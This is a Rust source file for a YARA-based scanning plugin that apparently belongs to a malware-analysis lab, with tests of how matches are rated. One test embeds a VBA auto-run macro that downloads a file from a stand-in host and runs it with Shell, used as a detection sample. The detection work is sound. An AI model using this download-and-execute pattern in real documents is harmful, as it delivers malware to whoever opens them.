//! The plugin `yara`: rules of our own and those of a folder, on the file and on everything inside it.
//!
//! Settings: `rules`, a folder of `.yar` and `.yara` files; `embedded = false` leaves our own out. A match of a rule with
//! `severity = "infected"` counts as proof: `malicious`. Every other match is `suspicious`, also of a rule without a severity. If no rule
//! matches, that is `info`: rules know what somebody has seen before, and an unknown file is not harmless just because it is unknown.

use crate::findings::Findings;
use crate::sample::Sample;
use serde_json::{Value, json};
use std::cell::RefCell;
use std::path::Path;
use std::time::Duration;
use weir_scan::budget::{Budget, Exceeded, Limits};
use weir_scan::file_name::extension;
use weir_scan::plain::shown;
use weir_scan::walk::{self, File, NestedPath, Oddity, Visit};
use weir_scan::yara::{Externals, RuleFile, Rules, Severity, folder, version};

/// Matches that a report names.
const MATCHES_MAX: usize = 200;

thread_local! {
    /// The rules of the last look: making them takes longer than most looks, and one who stays looks again with the same.
    static KEPT: RefCell<Option<(String, Rules)>> = const { RefCell::new(None) };
}

/// What all of a sample may cost.
fn limits() -> Limits {
    Limits { message_bytes: u64::MAX, bytes: 1 << 30, time: Duration::from_secs(120), ..Limits::default() }
}

/// Which rules match.
pub fn look(sample: &Sample, findings: &mut Findings<'_>) -> Result<Value, String> {
    let files = files(&sample.config)?;
    let version = version(&files);
    let kept = KEPT.take().filter(|(kept, _)| *kept == version).map(|(_, rules)| rules);
    let mut rules = match kept {
        Some(rules) => rules,
        None => Rules::compile(&files).map_err(|error| error.to_string())?,
    };
    let count = rules.count();
    let mut scan = Scan { rules: &mut rules, findings, matches: Vec::new(), unseen: None };
    let mut budget = Budget::new(&limits());
    let passwords = crate::archive::passwords(&sample.config);
    let passwords: Vec<&str> = passwords.iter().map(String::as_str).collect();
    let walked = walk::walk_sample(&[shown(&sample.name, 200)], &sample.data, &passwords, &mut budget, &mut scan);
    let Scan { matches, mut unseen, .. } = scan;
    if let Err(exceeded) = walked {
        unseen = Some(exceeded.to_string());
    }
    if !sample.is_whole() {
        unseen = Some("it is larger than what is looked at".into());
    }
    match &unseen {
        Some(why) => findings.info("not-all", why.as_str()),
        None if matches.is_empty() => findings.info("no-match", format!("none of {count} rules matches")),
        None => {}
    }
    KEPT.set(Some((version.clone(), rules)));
    Ok(json!({ "matches": matches, "rules": count, "version": version, "not_seen": unseen }))
}

/// The rules that the settings ask for.
fn files(config: &Value) -> Result<Vec<RuleFile>, String> {
    let mut files = Vec::new();
    if config["embedded"].as_bool().unwrap_or(true) {
        files.push(RuleFile::embedded());
    }
    if let Some(path) = config["rules"].as_str().filter(|path| !path.is_empty()) {
        files.extend(folder_of(Path::new(path))?);
    }
    if files.is_empty() { Err("there are no rules".into()) } else { Ok(files) }
}

fn folder_of(path: &Path) -> Result<Vec<RuleFile>, String> {
    folder::stamp(path).and_then(|stamp| folder::read(&stamp)).map_err(|error| error.to_string())
}

/// What identifies the rules: results of other rules do not count. With a folder that cannot be read, why.
pub fn rules_version(folder: Option<&Path>) -> Result<String, String> {
    let mut files = vec![RuleFile::embedded()];
    if let Some(path) = folder {
        files.extend(folder_of(path)?);
    }
    Ok(version(&files))
}

struct Scan<'a, 'k> {
    rules: &'a mut Rules,
    findings: &'a mut Findings<'k>,
    matches: Vec<Value>,
    /// Why something was not looked at.
    unseen: Option<String>,
}

impl Visit for Scan<'_, '_> {
    fn file(&mut self, place: &NestedPath, file: &File<'_>, budget: &Budget) -> Result<(), Exceeded> {
        if file.data.is_empty() {
            return Ok(());
        }
        let name = file.names.first().map_or("", String::as_str);
        let extension = extension(name).unwrap_or_default();
        let (kind, in_archive) = (file.kind.word(), file.in_archive);
        let known = Externals { name, extension: &extension, kind, in_archive, is_message: false };
        let (matches, whole) = self.rules.scan(file.data, &known, budget.left());
        for found in matches {
            let value = if in_archive { format!("{} in {place}", found.rule) } else { found.rule.clone() };
            if found.severity == Severity::Infected && found.declared {
                self.findings.malicious("rule", value);
            } else {
                self.findings.suspicious("rule", value);
            }
            if self.matches.len() < MATCHES_MAX {
                let (rule, what) = (shown(&found.rule, 200), shown(&found.description, 200));
                self.matches.push(json!({ "rule": rule, "description": what, "place": place.to_string() }));
            }
        }
        if whole { Ok(()) } else { Err(Exceeded::Time(budget.limits().time)) }
    }

    fn odd(&mut self, place: &NestedPath, oddity: Oddity) {
        let why = match oddity {
            Oddity::Encrypted => "has a password",
            Oddity::Unreadable(_) => "cannot be read",
            Oddity::Closed(_) => "is an archive that is not opened",
            _ => return,
        };
        self.unseen.get_or_insert_with(|| format!("{place} {why}"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::findings::Memory;
    use crate::fixtures;
    use weir_lab::job::{Level, Taxonomy};

    fn said(name: &str, data: &[u8], config: Value) -> Result<Vec<Taxonomy>, String> {
        let mut shelf = Memory::default();
        let mut findings = Findings::new("yara", &mut shelf);
        let sample = Sample { config, ..Sample::of_bytes(name, data) };
        let full = look(&sample, &mut findings)?;
        Ok(findings.report(&full).unwrap().summary.taxonomies)
    }

    fn first(name: &str, data: &[u8]) -> (Level, String) {
        let lines = said(name, data, Value::Null).unwrap();
        (lines[0].level, lines[0].value.clone())
    }

    #[test]
    fn the_test_file_is_malicious_alone_and_packed() {
        assert_eq!(first("a.com", &fixtures::eicar()), (Level::Malicious, "EICAR_test_file".into()));
        let zip = fixtures::zip(&[("a.com", &fixtures::eicar())]);
        assert_eq!(first("a.zip", &zip), (Level::Malicious, "EICAR_test_file in a.zip > a.com".into()));
        let (level, _) = first("a.zip", &fixtures::eicar_in_locked_zip());
        assert_eq!(level, Level::Malicious, "with the password that everybody knows");
    }

    /// So the lab uses no result again for a name with another extension.
    #[test]
    fn a_text_is_read_as_what_its_name_says() {
        let archive = fixtures::zip(&[("a.com", &fixtures::eicar())]);
        let numbers: Vec<String> = archive.iter().map(u8::to_string).collect();
        let script = format!("var file = [{}];", numbers.join(","));
        assert_eq!(first("run.js", script.as_bytes()).0, Level::Malicious);
        assert_eq!(first("notes.txt", script.as_bytes()).0, Level::Info);
    }

    #[test]
    fn what_no_rule_knows_is_not_safe_and_what_was_not_seen_is_told() {
        let (level, said) = first("a.txt", b"hello world");
        assert!(level == Level::Info && said.starts_with("none of ") && said.ends_with(" rules matches"), "{said}");
        let locked = fixtures::hello_in_zip_of_another_password();
        assert_eq!(first("a.zip", &locked), (Level::Info, "a.zip > hello.txt has a password".into()));
        let half = fixtures::zip(&[("a.txt", &[7; 4000])]);
        assert_eq!(first("a.zip", &half[..half.len() - 30]).0, Level::Info);
    }

    #[test]
    fn macros_are_looked_at_as_source() {
        let source = "Sub AutoOpen()\r\nURLDownloadToFile 0, \"http://x/y\", f\r\nShell (f)\r\nEnd Sub\r\n";
        assert_eq!(first("a.doc", &fixtures::macro_doc(source)).0, Level::Malicious);
    }

    #[test]
    fn rules_of_a_folder_count_as_they_say() {
        let folder = tempfile::tempdir().unwrap();
        let rule = |name: &str, meta: &str, text: &str| {
            format!("rule {name} {{ {meta} strings: $a = \"{text}\" condition: $a }}\n")
        };
        let text = rule("plain", "", "abcd") + &rule("grave", "meta: severity = \"infected\"", "wxyz");
        std::fs::write(folder.path().join("mine.yar"), text).unwrap();
        let config = json!({ "rules": folder.path(), "embedded": false });
        let level = |data: &[u8]| said("a", data, config.clone()).unwrap()[0].level;
        assert_eq!(
            [level(b"abcd"), level(b"wxyz"), level(b"hello")],
            [Level::Suspicious, Level::Malicious, Level::Info]
        );
        let one = rules_version(Some(folder.path())).unwrap();
        std::fs::write(folder.path().join("mine.yar"), "rule x { condition: $a }").unwrap();
        assert_ne!(one, rules_version(Some(folder.path())).unwrap());
        assert!(said("a", b"x", config).unwrap_err().contains("mine.yar do not compile"));
        assert!(said("a", b"x", json!({ "rules": "/no/such/folder" })).unwrap_err().contains("/no/such/folder"));
        assert!(said("a", b"x", json!({ "embedded": false })).is_err());
    }
}
